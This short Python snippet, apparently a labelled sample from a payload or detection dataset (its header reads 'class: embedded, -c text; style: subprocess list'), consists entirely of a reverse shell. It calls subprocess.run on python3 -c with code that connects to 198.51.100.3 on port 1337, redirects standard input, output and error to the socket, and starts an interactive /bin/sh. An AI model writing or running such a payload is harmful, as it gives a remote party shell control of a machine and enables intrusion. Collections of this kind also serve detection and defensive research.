# class: embedded, -c text; style: subprocess list
import subprocess

subprocess.run(["python3", "-c", "import os,socket,subprocess as s;c=socket.create_connection(('198.51.100.3',1337));"
                "[os.dup2(c.fileno(),i) for i in range(3)];s.call(['/bin/sh','-i'])"])
